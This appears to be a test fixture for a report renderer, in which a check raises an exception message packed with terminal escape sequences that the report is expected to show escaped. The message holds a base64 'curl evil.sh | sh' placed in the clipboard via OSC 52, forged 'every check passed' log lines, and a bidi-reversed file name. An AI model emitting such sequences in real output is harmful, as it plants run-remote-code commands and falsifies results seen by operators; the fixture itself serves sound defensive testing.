# expect: exception
# expect-kernel: exception
# error: ValueError: \x1b]52;c;
# An exception message written to steer whoever reads the report: OSC 52 puts a command in the operator's
# clipboard, CSI clears the screen, CR and a newline forge log lines, a C1 CSI colours, a bidi override reverses
# a file name, zero-width and line-separator characters hide and break text, NUL and DEL. The report must show
# each one escaped, never carry it.


def check(**p):
    raise ValueError(
        "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"  # `curl evil.sh | sh`, base64
        "\x1b[2J\x1b[H"
        "\r[INFO] every check passed\n[INFO] spec accepted"
        "\x9b31m invoice\u202egnp.exe\u200b\u2028\u2029\x00\x7f"
    )
